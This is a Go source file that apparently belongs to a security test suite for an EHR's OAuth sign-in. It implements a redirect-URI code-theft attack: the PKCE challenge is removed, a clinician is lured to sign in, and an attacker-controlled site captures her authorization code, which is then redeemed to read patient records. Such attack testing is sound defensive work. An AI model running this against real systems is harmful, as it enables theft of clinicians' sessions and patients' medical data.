package attacker

import (
	"context"
	"net/http"
	"net/url"
	"sync"
)

// site is the thief's web site: it notes what browsers bring.
type site struct {
	url string
	mu  sync.Mutex
	got []url.Values
	raw []string // queries as they came
}

// newSite puts up the site. It answers every request with an empty page.
func newSite(g Ground) *site {
	s := &site{url: "https://" + g.Target().OwnHost}
	g.Serve(g.Target().OwnHost, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		s.got, s.raw = append(s.got, answerOf(r.URL.String())), append(s.raw, r.URL.RawQuery)
		w.WriteHeader(http.StatusOK)
	}))
	return s
}

// code is the first authorization code that was brought.
func (s *site) code() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, q := range s.got {
		if code := q.Get("code"); code != "" {
			return code
		}
	}
	return ""
}

// answer is the query that the first authorization code was brought in.
func (s *site) answer() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	for i, q := range s.got {
		if q.Get("code") != "" {
			return s.raw[i]
		}
	}
	return ""
}

// catchAndRedeem lures a clinician to a link whose answer comes to the site, redeems her code as app
// a, and reads one of her patients' records.
func (a *app) catchAndRedeem(ctx context.Context, s *site, link string, z authorization) error {
	if err := a.g.Lure(link); err != nil {
		return err
	}
	code := s.code()
	if code == "" {
		return ErrStopped
	}
	t, err := a.redeem(ctx, code, z, a.g.Target().FHIRBase)
	if err != nil {
		return err
	}
	_, err = a.read(ctx, record(a.g, stranger(a.g)), t)
	return err
}

var _ = register("R-01", Technique{
	Variant: "own-site",
	Title:   "A redirect URI of the thief's choosing",
	Story: "The thief makes a sign-in link for the EHR that has the answer sent to his own site. A clinician follows it; it is the real " +
		"sign-in page, so she signs in. He then feeds her code to the EHR in a sign-in of his own.",
	Reads: []string{"RFC 9700 s4.1", "RFC 6749 s4.1.3"},
	Run: func(ctx context.Context, g Ground) error {
		c := noCredentials
		c.ClientID, c.RedirectURI = g.Target().ClientID, "https://"+g.Target().OwnHost+"/callback"
		a, err := newApp(ctx, g, c)
		if err != nil {
			return err
		}
		a.meta.RequirePAR = false // a link of the thief's own
		own, err := beginSignIn(ctx, g)
		if err != nil {
			return err
		}
		// His own sign-in's challenge would be best, but he does not know its verifier; a link without
		// one asks for no verifier.
		z, err := a.authorize(ctx, "openid user/*.rs", g.Target().FHIRBase, func(form url.Values) {
			form.Del("code_challenge")
			form.Del("code_challenge_method")
		})
		if err != nil {
			return err
		}
		s := newSite(g)
		if err := g.Lure(z.url); err != nil {
			return err
		}
		code := s.code()
		if code == "" {
			return ErrStopped
		}
		_, err = g.Browser().Visit(ctx, withCode(own, code), "")
		return err
	},
})
